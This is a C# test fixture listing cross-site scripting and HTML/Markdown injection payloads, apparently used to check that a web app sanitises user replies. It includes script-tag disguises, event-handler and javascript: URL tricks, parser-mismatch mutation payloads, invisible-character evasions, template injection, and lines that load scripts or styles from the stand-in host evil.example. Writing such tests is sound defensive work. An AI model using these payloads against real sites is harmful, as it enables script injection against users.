namespace Facet.Web.Tests.Replies;

/// <summary>Texts that would run a script, load something or break out of their place on a page that trusts them.</summary>
internal static class Payloads
{
    private const string Run = "window.ran=1";

    public static IReadOnlyList<string> All { get; } =
    [
        // Script and its disguises
        $"<script>{Run}</script>", $"<SCRIPT>{Run}</SCRIPT>", $"<scr<script>ipt>{Run}</scr</script>ipt>", $"<script src=data:text/javascript,{Run}></script>", "<script src=//evil.example/x.js></script>", $"<script\t>{Run}</script\n>",
        $"<script/x>{Run}</script>", $"\"><script>{Run}</script>", $"'><script>{Run}</script>", $"</div><script>{Run}</script>", $"</article></section><script>{Run}</script>", $"</textarea><script>{Run}</script>", $"</title><script>{Run}</script>",
        $"--><script>{Run}</script>", $"]]><script>{Run}</script>", $"<script type=module>{Run}</script>", $"＜script＞{Run}＜/script＞", $"&lt;script&gt;{Run}&lt;/script&gt;", $"&#60;script&#62;{Run}&#60;/script&#62;", $"\\u003cscript\\u003e{Run}", $"%3Cscript%3E{Run}%3C/script%3E",
        // Handlers
        $"<img src=x onerror={Run}>", $"<img src=x onerror='{Run}'", $"<IMG SRC=x oNeRrOr={Run}>", $"<img/src=x/onerror={Run}>", $"<img src=`x`onerror={Run}>", $"<svg onload={Run}>", $"<svg/onload={Run}>", $"<svg><script>{Run}</script></svg>", $"<svg><animate onbegin={Run} attributeName=x dur=1s>",
        $"<svg><a xlink:href=\"javascript:{Run}\"><text x=20 y=20>x</text></a></svg>", $"<svg><foreignObject><iframe srcdoc=\"<script>parent.{Run}</script>\"></iframe></foreignObject></svg>", $"<body onload={Run}>", $"<input autofocus onfocus={Run}>", $"<details open ontoggle={Run}>x</details>",
        $"<video><source onerror={Run}></video>", $"<audio src=x onerror={Run}>", $"<marquee onstart={Run}>x</marquee>", $"<p onclick={Run}>x</p>", $"<em onmouseover={Run}>x</em>", $"<select autofocus onfocus={Run}>", $"<button popovertarget=x onbeforetoggle={Run}>x</button>", $"<div contenteditable autofocus onfocus={Run}>",
        $"\" onmouseover=\"{Run}", $"' autofocus onfocus='{Run}", $"` onerror=`{Run}",
        // Addresses that run
        $"<a href=\"javascript:{Run}\">x</a>", $"<a href=\"JaVaScRiPt:{Run}\">x</a>", $"<a href=\"java\tscript:{Run}\">x</a>", $"<a href=\"&#106;avascript:{Run}\">x</a>", $"<a href=\"&#x6A;&#x61;vascript&colon;{Run}\">x</a>", $"<a href=\" \u0001javascript:{Run}\">x</a>", $"<a href=\"vbscript:{Run}\">x</a>",
        $"<a href=\"data:text/html,<script>{Run}</script>\">x</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=\">x</a>", $"<iframe src=\"javascript:parent.{Run}\"></iframe>", $"<iframe srcdoc=\"<script>parent.{Run}</script>\"></iframe>", $"<object data=\"javascript:{Run}\"></object>", "<embed src=//evil.example/x.swf>",
        $"<form action=\"javascript:{Run}\"><button>x</button></form>", $"<button form=f formaction=\"javascript:{Run}\">x</button>", "<base href=//evil.example/>", $"<meta http-equiv=refresh content=\"0;url=javascript:{Run}\">", "<link rel=stylesheet href=//evil.example/x.css>",
        // Markdown
        $"[x](javascript:{Run})", $"[x](JaVaScRiPt:{Run})", $"[x](javascript&colon;{Run})", $"[x](<javascript:{Run}>)", $"[x](\"javascript:{Run})", $"![x](x\"onerror=\"{Run})", "![x](//evil.example/x.png)", $"[x][y]\n\n[y]: javascript:{Run}", $"[y]: javascript:{Run}\n[y]", $"<javascript:{Run}>", $"<https://evil.example/{Run}>",
        $"[x](data:text/html,<script>{Run}</script>)", $"[![x](x)](javascript:{Run})", $"[x]: <javascript:{Run}> \"><script>{Run}</script>\"", $"```html\n<script>{Run}</script>\n```", $"    <script>{Run}</script>", $"`<script>{Run}</script>`", $"# <script>{Run}</script>", $"x\n===\n<img src=x onerror={Run}>", $"> <img src=x onerror={Run}>", $"- <img src=x onerror={Run}>",
        $"*<img src=x onerror={Run}>*", $"\\<script>{Run}\\</script>", $"[x](javascript:{Run} \"title\")", $"[x](java\\script:{Run})",
        // Parsers that disagree
        $"<noscript><p title=\"</noscript><img src=x onerror={Run}>\">", $"<template><script>{Run}</script></template>", $"<math><mtext><table><mglyph><style><img src=x onerror={Run}></style></mglyph></table></mtext></math>", $"<svg></p><style><a id=\"</style><img src=x onerror={Run}>\">", $"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={Run}>",
        $"<style><!--</style><script>{Run}//--></script>", $"<xmp><p title=\"</xmp><svg/onload={Run}>\"></xmp>", $"<!--><img src=x onerror={Run}>-->", $"<![CDATA[><img src=x onerror={Run}>]]>", $"<plaintext><script>{Run}</script>", $"<table><td background=\"javascript:{Run}\">", $"<title><img src=x onerror={Run}></title>", $"<textarea><img src=x onerror={Run}></textarea>", $"<?xml version=\"1.0\"?><script>{Run}</script>",
        // Styles, and signs that nobody sees
        "<style>*{background:url(//evil.example/x)}</style>", "<p style=\"background:url(//evil.example/x)\">x</p>", $"<p style=\"width:expression({Run})\">x</p>", "<p style=\"position:fixed;inset:0\">x</p>", $"<scr\0ipt>{Run}</scr\0ipt>", $"<\0script>{Run}</script>", $"<img src=x on\0error={Run}>", $"<scr\u00ADipt>{Run}</script>", $"\u202E<script>{Run}</script>", $"\uFEFF<script>{Run}</script>",
        $"<ſcript>{Run}</ſcript>", $"<script\u2028>{Run}</script>", $"<img src=x\u00A0onerror={Run}>", "{{constructor.constructor('window.ran=1')()}}", "${window.ran=1}", "<x-a id=reply class=facet-trap data-exclusive-group>x</x-a>", "<a id=main name=main href=#x>x</a>",
        // Deep and long
        new('>', 1500), string.Concat(Enumerable.Repeat("- ", 800)), new('*', 1500), string.Concat(Enumerable.Repeat("> - ", 400)), string.Concat(Enumerable.Repeat("**a_", 400)), string.Concat(Enumerable.Repeat("<b>", 500)), new('[', 1500), new('x', 1999),
    ];
}
